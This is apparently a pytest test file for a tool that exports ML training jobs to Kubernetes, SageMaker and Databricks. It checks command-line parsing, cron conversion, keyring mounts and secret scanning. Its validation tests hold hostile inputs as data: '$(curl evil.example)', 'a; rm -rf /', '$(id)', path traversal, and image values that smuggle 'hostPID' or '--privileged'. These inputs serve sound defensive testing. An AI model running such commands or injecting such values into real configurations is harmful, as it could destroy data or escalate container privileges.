"""Issue 10, item 6: export correctness, through the real CLI where it applies."""

from __future__ import annotations

import base64
import json
import os
import re
import shlex
from pathlib import Path

import pytest
from typer.main import get_command

from runners import export as ex
from runners.export import cron, secrets
from runners.export.jobspec import ExportOptions
from runners.spec import load_spec
from tgsp import Keyring
from tgsp.errors import InputError
from tgflow_cli.main import app, main

from tests.export.test_export import IMPLEMENTED, SETTINGS, SPEC, options
from tests.helpers import PASS, make_adapter, pp

ROOT = Path(__file__).resolve().parents[2]


def parse_with_the_real_cli(argv: list[str]) -> dict:
    """Parse a command line exactly as `tgflow` would, without running it."""
    cmd = get_command(app)
    ctx = cmd.make_context("tgflow", list(argv))
    while hasattr(cmd, "resolve_command"):  # a group (typer may vendor its own click)
        name, cmd, rest = cmd.resolve_command(ctx, [*ctx._protected_args, *ctx.args])
        ctx = cmd.make_context(name, rest, parent=ctx)
    return ctx.params


# What the platforms put in a container's environment before Kubernetes expands $(VAR) in args.
PLATFORM_ENV = {"PET_NODE_RANK": "1", "PET_MASTER_ADDR": "tgflow-support-node-0-0.tgflow-support",
                "PET_MASTER_PORT": "29400", "NODE_RANK": "1", "JOBSET_NAME": "tgflow-support-x7k2p", "RANK": "1",
                "MASTER_ADDR": "tgflow-support-master-0",
                "MASTER_PORT": "23456"}


def expand_platform_vars(argv: list[str]) -> list[str]:
    """Kubernetes' $(VAR) expansion of a container's args, with PLATFORM_ENV's values."""
    return [re.sub(r"\$\((\w+)\)", lambda m: PLATFORM_ENV[m.group(1)], a) for a in argv]


def _command_lines(doc):
    """Every tgflow command line inside a native job document."""
    if isinstance(doc, dict):
        for v in doc.values():
            yield from _command_lines(v)
    elif isinstance(doc, list):
        if doc[:2] in (["peft", "run"], ["fed", "aggregate"], ["fed", "decrypt"]):
            yield doc
        elif len(doc) > 2 and doc[0] == "tgflow":
            yield doc[1:]
        else:
            for v in doc:
                yield from _command_lines(v)
    elif isinstance(doc, str) and any(f"tgflow {c}" in doc for c in ("peft run", "fed aggregate", "fed decrypt")):
        yield shlex.split(doc.split("tgflow ", 1)[1])
    elif isinstance(doc, str):  # a scheduled copy of the job: JSON in a string (EventBridge), or base64 (Cloud Scheduler)
        for decode in (lambda t: t, lambda t: base64.b64decode(t, validate=True).decode()):
            try:
                inner = json.loads(decode(doc))
            except (ValueError, UnicodeDecodeError):
                continue
            if isinstance(inner, (dict, list)):
                yield from _command_lines(inner)
                return


@pytest.mark.parametrize("backend", IMPLEMENTED)
def test_every_exported_command_line_parses_with_the_real_cli(backend):
    files = ex.export(SPEC, backend, options(backend))
    lines = [argv for name, doc in files.items() if name != "run_spec.json" for argv in _command_lines(doc)]
    assert len(lines) >= 2 + ("schedule.json" in files or "scheduler_job.json" in files), lines  # job, job_spec, schedule
    for argv in lines:
        params = parse_with_the_real_cli(argv)
        assert params["spec"] and params["output_root"] and params["skip_ok"] and params["json_out"], (backend, argv)


def test_sagemaker_output_root_is_given_once():
    args = ex.export(SPEC, "sagemaker", options("sagemaker"))["training_job.json"]["AlgorithmSpecification"][
        "ContainerArguments"]
    assert args.count("--output-root") == 1 and args[args.index("--output-root") + 1] == "/opt/ml/checkpoints"


def test_kubernetes_keyring_recipe_gives_a_layout_tgflow_reads(tmp_path):
    """kubectl create secret generic <prefix>-keys --from-file=$TGFLOW_HOME/keys/ (and -trust, -revocations),
    mounted as the kubelet does: ..data symlinks to a timestamped folder."""
    home = Keyring(tmp_path / "home")
    home.generate("release", "signing", pp)
    home.generate("operator", "recipient", pp)
    job = ex.export(SPEC, "k8s", options("k8s"))["job.yaml"]["spec"]["template"]["spec"]
    mounts = {m["name"]: m["mountPath"] for m in job["containers"][0]["volumeMounts"]}
    vols = {v["name"]: v for v in job["volumes"]}
    root = tmp_path / "pod"
    for vol, folder in (("keyring-keys", "keys"), ("keyring-trust", "trust")):
        assert vols[vol]["secret"]["secretName"] == f"tgflow-keyring-{folder}"
        mount = root / mounts[vol].lstrip("/")
        (mount / "..2026_12_01").mkdir(parents=True)
        for f in (home.home / folder).iterdir():  # a Secret's keys are the files' base names
            (mount / "..2026_12_01" / f.name).write_bytes(f.read_bytes())
        os.symlink("..2026_12_01", mount / "..data")
        for f in (home.home / folder).iterdir():
            os.symlink(f"..data/{f.name}", mount / f.name)
    env = {e["name"]: e["value"] for e in job["containers"][0]["env"]}
    pod_home = root / env["TGFLOW_HOME"].lstrip("/")
    kr = Keyring(pod_home)
    assert {k.name for k in kr.list()} == {"release", "operator"}
    signer = kr.signer("release", pp)
    import tgsp

    pkg = tmp_path / "p.tgsp"
    tgsp.build(make_adapter(tmp_path / "src"), pkg, signers=[signer], recipients=[kr.resolve_public("operator").key])
    assert tgsp.verify(pkg, kr.trust_policy()).ok  # (no revocations Secret: it is optional)


def test_unknown_set_key_is_refused_with_a_suggestion(tmp_path, capsys):
    code = main(["export", "--backend", "k8s", "--spec", str(ROOT / "examples" / "run_spec.json"), "-o",
                 str(tmp_path / "o"), "--set", "namespce=ml"])
    err = capsys.readouterr().err
    assert code == 2 and "did you mean namespace?" in err and not (tmp_path / "o").exists()


@pytest.mark.parametrize("setting,value,needle", [
    ("namespace", "$(curl evil.example)", "DNS-1123"), ("keyring_secret", "Bad_Name", "DNS-1123")])
def test_kubernetes_names_are_checked(setting, value, needle):
    with pytest.raises(InputError, match=needle):
        ex.export(SPEC, "k8s", options("k8s", settings={setting: value}))


@pytest.mark.parametrize("what,value", [("cpu", "two"), ("memory", "8 GB")])
def test_kubernetes_quantities_are_checked(what, value):
    with pytest.raises(InputError, match="not a Kubernetes quantity"):
        ex.export(SPEC, "k8s", options("k8s", **{what: value}))


@pytest.mark.parametrize("unix,aws", [("0 3 * * 0-7", "cron(0 3 ? * * *)"), ("0 3 * * 5-7", "cron(0 3 ? * 1,6,7 *)"),
                                      ("0 3 * * 0", "cron(0 3 ? * 1 *)"), ("0 3 * * 1-7/2", "cron(0 3 ? * 1,2,4,6 *)")])
def test_day_of_week_ranges_touching_sunday_keep_their_meaning(unix, aws):
    assert cron.to_aws(cron.parse(unix)) == aws
    assert cron.to_quartz(cron.parse(unix)).split()[-1] == aws.split()[-2]


def test_state_dir_cannot_escape_the_output_root(tmp_path, capsys, monkeypatch):
    spec = json.loads((ROOT / "examples" / "run_spec.json").read_text())
    spec["output"]["state_dir"] = "../.."
    (tmp_path / "spec.json").write_text(json.dumps(spec))
    monkeypatch.setenv("TGFLOW_HOME", str(tmp_path / "h"))
    code = main(["peft", "run", "--spec", str(tmp_path / "spec.json"), "--output-root", str(tmp_path / "out")])
    assert code == 2 and "leaves the output folder" in capsys.readouterr().err


@pytest.mark.parametrize("value,what", [
    ("hf_" + "a1B2c3D4e5" * 4, "Hugging Face"), ("sk-proj-" + "x9" * 16, "OpenAI"), ("glpat-" + "Ab1_" * 6, "GitLab"),
    ("AIza" + "Sy" + "A1b2C3d4" * 4 + "e", "Google"), ("-----BEGIN PGP PRIVATE KEY BLOCK-----", "PGP"),
    ("https://:hunter2hunter2@host.example/x", "password in a URL"),
    ("https://host.example/hook?token=abcdef123456", "query string")])
def test_secret_scanner_knows_more_token_shapes(value, what):
    with pytest.raises(InputError, match=what):
        secrets.check({"env": [{"name": "HF_ENDPOINT", "value": value}]}, "k8s")


def test_setting_equal_to_the_passphrase_is_refused_even_with_check(tmp_path, capsys, monkeypatch):
    monkeypatch.setenv("TGFLOW_PASSPHRASE", "correct-horse-battery")
    argv = ["export", "--backend", "databricks", "--spec", str(ROOT / "examples" / "run_spec.json"), "-o",
            str(tmp_path / "o"), "--check"] + [f"--set={k}={v}" for k, v in SETTINGS["databricks"].items()]
    code = main(argv + ["--set", "secret_key=correct-horse-battery"])
    assert code == 2 and "passphrase" in capsys.readouterr().err and not (tmp_path / "o").exists()
    pp_file = tmp_path / "pp"
    pp_file.write_text("file-held-passphrase\n")
    monkeypatch.delenv("TGFLOW_PASSPHRASE")
    monkeypatch.setenv("TGFLOW_PASSPHRASE_FILE", str(pp_file))
    assert main(argv + ["--set", "secret_key=file-held-passphrase"]) == 2


def test_passphrase_secret_that_is_not_a_reference_is_never_echoed(tmp_path, capsys, monkeypatch):
    for k in ("TGFLOW_PASSPHRASE", "TGFLOW_PASSPHRASE_FILE"):
        monkeypatch.delenv(k, raising=False)
    monkeypatch.setenv("TGFLOW_HOME", str(tmp_path / "h"))
    monkeypatch.setenv("TGFLOW_PASSPHRASE_SECRET", "my actual passphrase")
    code = main(["key", "generate", "k", "--json"])
    out, err = capsys.readouterr()
    assert code == 3 and "my actual passphrase" not in out + err and "not a supported reference" in err


def test_every_golden_files_command_line_parses_with_the_real_cli():
    """The golden files on disk, not only a fresh export: each command line in them parses."""
    import yaml

    golden = ROOT / "tests" / "export" / "golden"
    seen = 0
    for path in sorted(p for p in golden.rglob("*") if p.is_file() and p.name != "run_spec.json"):
        docs = list(yaml.safe_load_all(path.read_text())) if path.suffix == ".yaml" else [json.loads(path.read_text())]
        for argv in (a for d in docs for a in _command_lines(d)):
            params = parse_with_the_real_cli(expand_platform_vars(argv))
            assert params["json_out"] and params["wait_busy"] == 900, (path, argv)
            assert params["skip_ok"] if argv[0] == "peft" else params["quorum"] >= 1, (path, argv)
            seen += 1
    assert seen >= 13


# --- issue 26: every value export writes is checked as what it is ----------------------------
HOSTILE = ["x\nmalicious: true", "a; rm -rf /", "$(id)", "`id`", "a b", "../../etc", "'quoted'"]


def _every_setting(backend):
    mod = ex._module(backend)
    return sorted(mod.SETTINGS - {"engine"})


@pytest.mark.parametrize("backend", IMPLEMENTED)
def test_every_setting_of_every_backend_refuses_newlines_and_shell_syntax(backend):
    for key in _every_setting(backend):
        for bad in HOSTILE:
            settings = {**SETTINGS[backend], key: bad}
            with pytest.raises(InputError, match=f"--set {key}|looks like|literal"):
                ex.export(SPEC, backend, options(backend, settings=settings))


@pytest.mark.parametrize("backend", IMPLEMENTED)
def test_every_setting_of_every_backend_refuses_the_passphrase(backend, monkeypatch, tmp_path):
    """From the environment, its file, or config.toml's [keys] passphrase_file: never written out."""
    held = tmp_path / "pp"
    held.write_text("Held-In-Config-1\n")
    monkeypatch.setenv("TGFLOW_PASSPHRASE", "Held-In-Env-1")
    for key in _every_setting(backend):
        for value in ("Held-In-Env-1", "Held-In-Config-1"):
            settings = {**SETTINGS[backend], key: value}
            with pytest.raises(InputError):
                ex.export(SPEC, backend, options(backend, settings=settings), passphrase_files=[str(held)])


@pytest.mark.parametrize("image", ["registry.example/tgflow:0.1.0\nhostPID: true", "tgflow:0.1.0; id", "Upper:1",
                                   "registry.example/x:1 --privileged", ""])
def test_an_image_that_is_not_an_image_reference_is_refused(image):
    with pytest.raises(InputError, match="image reference"):
        ex.export(SPEC, "k8s", options("k8s", image=image))


@pytest.mark.parametrize("image", ["registry.example/tgflow:0.1.0", "localhost:5000/a/b_c-d:v1.2",
                                   "ghcr.io/tgflow/tgflow@sha256:" + "ab" * 32, "tgflow", "[::1]:5000/x:1"])
def test_real_image_references_pass(image):
    assert ex.export(SPEC, "k8s", options("k8s", image=image))


def test_config_image_and_key_names_in_the_command_line_are_checked(tmp_path, capsys, monkeypatch):
    home = tmp_path / "h"
    home.mkdir()
    (home / "config.toml").write_text('[export]\nimage = "registry.example/x:1\\nhostNetwork: true"\n')
    monkeypatch.setenv("TGFLOW_HOME", str(home))
    argv = ["export", "--backend", "k8s", "--spec", str(ROOT / "examples" / "run_spec.json"), "-o", str(tmp_path / "o")]
    assert main(argv) == 2 and "image reference" in capsys.readouterr().err
    (home / "config.toml").unlink()
    n2he = ["export", "--backend", "k8s", "--spec", str(ROOT / "examples" / "n2he_keyholder.json"), "-o",
            str(tmp_path / "k"), "--aggregate", "--quorum", "2"]
    assert main(n2he + ["--decrypt-from", "agg\n--debug"]) == 2 and "not a key name" in capsys.readouterr().err
    assert main(n2he + ["--decrypt-from", "aggregator", "--sum", "../../x"]) == 2
    assert "--sum '../../x'" in capsys.readouterr().err
    spec = json.loads((ROOT / "examples" / "fed_aggregator.json").read_text())
    spec["federation"]["sites"] = ["site-a", "site-b;id"]
    for name in ("feed", "eval", "reference"):
        if isinstance(spec.get(name), dict) and "uri" in spec[name]:
            spec[name]["uri"] = str((ROOT / "examples" / spec[name]["uri"]).resolve())
    spec["base_model_ref"] = str((ROOT / "examples" / spec["base_model_ref"]).resolve())
    (tmp_path / "agg.json").write_text(json.dumps(spec))
    argv = ["export", "--backend", "k8s", "--spec", str(tmp_path / "agg.json"), "-o", str(tmp_path / "a"),
            "--aggregate", "--quorum", "2"]
    assert main(argv) == 2 and "federation.sites" in capsys.readouterr().err


def test_a_state_dir_that_climbs_out_is_refused_at_export(tmp_path, capsys):
    """It was refused only when the exported job ran (issue 26): now at export, writing nothing."""
    spec = json.loads((ROOT / "examples" / "run_spec.json").read_text())
    spec["output"]["state_dir"] = "../.."
    (tmp_path / "spec.json").write_text(json.dumps(spec))
    code = main(["export", "--backend", "k8s", "--spec", str(tmp_path / "spec.json"), "-o", str(tmp_path / "o")])
    assert code == 2 and "output.state_dir" in capsys.readouterr().err and not (tmp_path / "o").exists()
